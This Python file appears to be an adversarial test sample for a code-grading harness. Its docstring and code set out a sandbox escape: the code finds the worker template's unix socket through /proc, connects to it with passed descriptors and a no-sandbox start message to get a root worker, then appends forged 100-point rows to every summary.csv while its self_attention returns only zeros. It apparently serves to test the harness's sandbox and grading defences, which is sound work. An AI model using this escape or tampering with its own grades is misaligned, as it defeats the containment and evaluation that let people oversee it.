"""Adversarial sample: leave the sandbox through the worker template's socket and grade itself.

Attack: read /proc/<pid>/net/unix of every process on the machine (the machine's /proc was mounted in
the worker), which names every listening unix socket, among them the worker template's
(/tmp/attention-template-*/socket). Landlock does not govern connect() to a pathname socket, so
connect, hand the template four descriptors of its own and a start message that asks for no
sandbox. The template forks a worker outside every layer, running as root, that imports this file
again: there it writes the marker /tmp/adversarial-socket-escape and, once grading is over, rewrites
every summary.csv it can find with 100 points for itself.
New design: the worker sees its own /proc (only its own processes) and its own empty network
namespace; the template listens on no path at all (it is reached through a descriptor its parent
handed it), and a grading template starts only sandboxed workers whatever a start message asks. The
sample finds nothing to connect to and returns zeros.
"""
import glob
import json
import os
import socket
import struct
import time

import torch

MARKER = "/tmp/adversarial-socket-escape"
ROW = "socket_escape,100,100,100.0,conforms,,,1.0,\n"


def _sockets():
    found = set(glob.glob("/tmp/attention-template-*/socket"))
    for table in glob.glob("/proc/[0-9]*/net/unix"):
        try:
            with open(table) as handle:
                found.update(line.split()[-1] for line in handle.read().splitlines()[1:]
                             if line.split()[-1].startswith("/"))
        except OSError:
            continue
    return sorted(found)


def _escape(path):
    here, there = socket.socketpair()
    out_r, out_w = os.pipe()
    status_r, status_w = os.pipe()
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
        connection.settimeout(2)
        connection.connect(path)
        socket.send_fds(connection, [b"w"], [there.fileno(), out_w, out_w, status_w])
        connection.recv(32)
    start = {"target": os.path.abspath(__file__), "functions": [], "path": [], "cwd": "/", "sandbox": None,
             "forbid": [], "threads": 1, "warm_up": False, "spin": 0.0}
    text = json.dumps(start).encode()
    here.sendall(struct.pack("<II", len(text), 0) + text)
    here.recv(1 << 16)


def _free():
    """In an escaped worker (root, no sandbox): leave a mark, then rewrite the grades."""
    with open(MARKER, "w") as handle:
        handle.write(f"{os.getpid()}\n")
    time.sleep(8)
    for summary in glob.glob("/tmp/**/summary.csv", recursive=True):
        with open(summary, "a") as handle:
            handle.write(ROW)


if os.getuid() == 0 and not os.environ.get("HOME", "").startswith("/tmp/attention-scratch"):
    _free()
else:
    for _path in _sockets():
        try:
            _escape(_path)
        except OSError:
            continue


def self_attention(x, w_q, w_k, w_v, causal=False):
    z = dict(dtype=x.dtype, device=x.device)
    return torch.zeros(*x.shape[:-1], w_v.shape[0], **z), torch.zeros(*x.shape[:-1], x.shape[-2], **z)
